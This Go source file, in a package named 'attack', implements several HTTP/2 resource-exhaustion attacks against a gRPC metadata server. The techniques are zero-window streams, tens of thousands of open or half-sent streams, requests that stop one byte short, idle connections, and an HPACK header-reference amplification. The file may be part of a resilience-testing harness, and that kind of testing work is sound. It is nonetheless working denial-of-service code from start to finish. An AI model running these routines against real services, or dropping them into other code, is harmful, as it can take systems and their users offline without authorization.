package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
	reflectionpb "google.golang.org/grpc/reflection/grpc_reflection_v1"
	"google.golang.org/protobuf/proto"

	"github.com/mlmd-go/sdk/generated/mlmdpb"
)

// A frameConn is a connection of HTTP/2 that keeps to no limits. Its methods may
// be called concurrently.
type frameConn struct {
	conn   net.Conn
	closed chan struct{} // the server has closed it

	mu      sync.Mutex
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	next    uint32 // stream
	onRoom  func(stream, n uint32)
}

// dialFrames connects with the settings. It is closed when ctx ends.
func dialFrames(ctx context.Context, address string, settings ...http2.Setting) (*frameConn, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	c := &frameConn{conn: conn, closed: make(chan struct{}), framer: http2.NewFramer(conn, conn), next: 1}
	c.encoder = hpack.NewEncoder(&c.block)
	context.AfterFunc(ctx, func() { conn.Close() })
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	if err := c.framer.WriteSettings(settings...); err != nil {
		conn.Close()
		return nil, err
	}
	go c.receive()
	return c, nil
}

// receive answers what a server must have an answer to.
func (c *frameConn) receive() {
	defer close(c.closed)
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				go c.answer(func() { _ = c.framer.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if data := f.Data; !f.IsAck() {
				go c.answer(func() { _ = c.framer.WritePing(true, data) })
			}
		case *http2.WindowUpdateFrame:
			if stream, n := f.StreamID, f.Increment; stream != 0 {
				go c.answer(func() {
					if c.onRoom != nil {
						c.onRoom(stream, n)
					}
				})
			}
		}
	}
}

// answer calls f when no other frame is being written. The connection is received
// meanwhile, as the server may wait for that.
func (c *frameConn) answer(f func()) {
	c.mu.Lock()
	defer c.mu.Unlock()
	f()
}

// open opens a stream for a method and sends data, unless it is nil.
func (c *frameConn) open(method string, data []byte, end bool) (stream uint32, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	stream = c.next
	c.next += 2
	c.block.Reset()
	for _, h := range [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", method},
		{":authority", "attack"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		if err := c.encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return 0, err
		}
	}
	err = c.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: c.block.Bytes(), EndHeaders: true,
	})
	if err == nil && data != nil {
		err = c.framer.WriteData(stream, end, data)
	}
	return stream, err
}

// message returns m as gRPC sends it.
func message(m proto.Message) []byte {
	raw, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(raw))), raw...)
}

// hold opens n streams, holds them, and begins anew.
func hold(
	ctx context.Context, address string, done *counter, n int, d time.Duration, settings []http2.Setting,
	open func(c *frameConn, i int) error,
) {
	for ctx.Err() == nil {
		one, cancel := context.WithCancel(ctx)
		c, err := dialFrames(one, address, settings...)
		for i := 0; i < n && err == nil; i++ {
			if err = open(c, i); err == nil {
				done.Add(1)
			}
		}
		if err != nil {
			failed(ctx, err)
		} else {
			select {
			case <-c.closed:
			case <-ctx.Done():
			case <-time.After(d):
			}
		}
		cancel()
	}
}

func windowOfZero(ctx context.Context, address string, done *counter) {
	in := message(&mlmdpb.GetArtifactsByIDRequest{ArtifactIds: []int64{stored.largeArtifact()}})
	hold(ctx, address, done, 200, 40*time.Second, []http2.Setting{{ID: http2.SettingInitialWindowSize}},
		func(c *frameConn, _ int) error {
			_, err := c.open(mlmdpb.MetadataStoreService_GetArtifactsByID_FullMethodName, in, true)
			return err
		})
}

// unreceivedReplies asks for replies of some KiB, over five connections.
func unreceivedReplies(ctx context.Context, address string, done *counter) {
	in := &mlmdpb.GetContextsByIDRequest{}
	for i := range 100 {
		in.ContextIds = append(in.ContextIds, int64(i+2))
	}
	raw := message(in)
	var all sync.WaitGroup
	for range 5 {
		all.Go(func() {
			hold(ctx, address, done, 1000, 20*time.Second, []http2.Setting{{ID: http2.SettingInitialWindowSize}},
				func(c *frameConn, _ int) error {
					_, err := c.open(mlmdpb.MetadataStoreService_GetContextsByID_FullMethodName, raw, true)
					return err
				})
		})
	}
	all.Wait()
}

func endlessStreams(ctx context.Context, address string, done *counter) {
	in := message(&healthpb.HealthCheckRequest{})
	hold(ctx, address, done, 60_000, 20*time.Second, nil, func(c *frameConn, i int) error {
		var err error
		if i%2 == 0 {
			_, err = c.open(healthpb.Health_Watch_FullMethodName, in, true)
		} else {
			_, err = c.open(reflectionpb.ServerReflection_ServerReflectionInfo_FullMethodName, nil, false)
		}
		return err
	})
}

func emptyStreams(ctx context.Context, address string, done *counter) {
	methods := []string{
		mlmdpb.MetadataStoreService_GetContextsByID_FullMethodName,
		mlmdpb.MetadataStoreService_PutContexts_FullMethodName,
		mlmdpb.MetadataStoreService_GetContexts_FullMethodName,
		mlmdpb.MetadataStoreService_GetLineageSubgraph_FullMethodName,
	}
	hold(ctx, address, done, 20_000, 20*time.Second, nil, func(c *frameConn, i int) error {
		_, err := c.open(methods[i%len(methods)], nil, false)
		return err
	})
}

// unfinishedRequests sends requests but for their last byte, as fast as the server
// receives them.
func unfinishedRequests(ctx context.Context, address string, done *counter) {
	const size, window, frame = 4_000_000, 65_535, 16 << 10
	methods := []string{
		mlmdpb.MetadataStoreService_PutContexts_FullMethodName,
		mlmdpb.MetadataStoreService_GetContextsByID_FullMethodName,
		healthpb.Health_Check_FullMethodName,
		reflectionpb.ServerReflection_ServerReflectionInfo_FullMethodName,
	}
	zeros := make([]byte, frame)
	begin := append(binary.BigEndian.AppendUint32([]byte{0}, size), zeros[:1000]...)
	sent := map[uint32]int{} // guarded by the connection, whose streams have the same IDs each time
	hold(ctx, address, done, 200, 20*time.Second, nil, func(c *frameConn, i int) error {
		room := map[uint32]int{}
		send := func(stream, n uint32) {
			room[stream] += int(n)
			for room[stream] > 0 && sent[stream] < size-1 {
				part := min(room[stream], size-1-sent[stream], frame)
				if c.framer.WriteData(stream, false, zeros[:part]) != nil {
					return
				}
				sent[stream] += part
				room[stream] -= part
			}
		}
		if i == 0 {
			c.mu.Lock()
			clear(sent)
			c.onRoom = send
			c.mu.Unlock()
		}
		stream, err := c.open(methods[i%len(methods)], begin, false)
		c.mu.Lock()
		defer c.mu.Unlock()
		sent[stream] += 1000
		c.onRoom(stream, window-uint32(len(begin)))
		return err
	})
}

// idleConnections opens connections of which half do not even send the preface.
func idleConnections(ctx context.Context, address string, done *counter) {
	for i := 0; i < 7000 && ctx.Err() == nil; i++ {
		var err error
		if i%2 == 0 {
			_, err = dialFrames(ctx, address)
		} else {
			var conn net.Conn
			if conn, err = new(net.Dialer).DialContext(ctx, "tcp", address); err == nil {
				defer conn.Close()
			}
		}
		if err != nil {
			failed(ctx, err)
			continue
		}
		done.Add(1)
	}
	<-ctx.Done()
}

// headerReferences sends one header of 4,000 bytes, and 575 KiB of references to
// it, of one byte each.
func headerReferences(ctx context.Context, address string, done *counter) {
	const frame, references = 16 << 10, 575 << 10
	for ctx.Err() == nil {
		one, cancel := context.WithCancel(ctx)
		c, err := dialFrames(one, address)
		if err != nil {
			cancel()
			failed(ctx, err)
			continue
		}
		c.mu.Lock()
		for _, h := range [][2]string{
			{":method", "POST"},
			{":scheme", "http"},
			{":path", healthpb.Health_Check_FullMethodName},
			{"content-type", "application/grpc"},
			{"x-large", strings.Repeat("x", 4000)},
		} {
			_ = c.encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // a buffer does not fail
		}
		err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block.Bytes()})
		reference := bytes.Repeat([]byte{0x80 | 62}, frame) // the latest entry of the dynamic table
		for at := 0; at < references && err == nil; at += frame {
			err = c.framer.WriteContinuation(1, at+frame >= references, reference)
		}
		c.mu.Unlock()
		done.Add(1)
		select {
		case <-c.closed:
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
		cancel()
		if err != nil {
			pause(ctx, 10*time.Millisecond) // the server has closed it
		}
	}
}
